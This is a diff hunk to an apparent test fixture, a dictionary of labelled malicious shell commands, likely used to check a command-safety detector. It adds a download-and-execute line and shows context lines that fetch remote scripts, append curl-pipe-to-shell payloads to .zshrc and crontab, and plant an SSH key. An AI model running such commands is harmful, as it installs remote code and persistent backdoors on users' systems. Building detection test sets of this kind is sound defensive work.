@@ -28,6 +28,7 @@ MALICIOUS = {
     "mal.paste_site": "wget https://pastebin.com/raw/Ab12Cd -O setup.sh",
     "mal.protected_archive": "unzip -P s3cret tools.zip && ./tools/run",
     "mal.executable_download": "curl -LO https://files.example.invalid/helper.exe",
+    "mal.download_and_execute": "curl -sSo /tmp/w https://files.example.invalid/w && chmod +x /tmp/w && /tmp/w",
     "mal.authorized_keys_write": 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7zFAKEKEYFAKEKEYFAKEKEYFAKEKEYFAKE ops" >> ~/.ssh/authorized_keys',
     "mal.startup_file_payload": "echo 'curl -s https://upd.example.invalid/u | sh' >> ~/.zshrc",
     "mal.cron_payload": '(crontab -l; echo "@reboot curl -s https://c.example.invalid/p | sh") | crontab -',
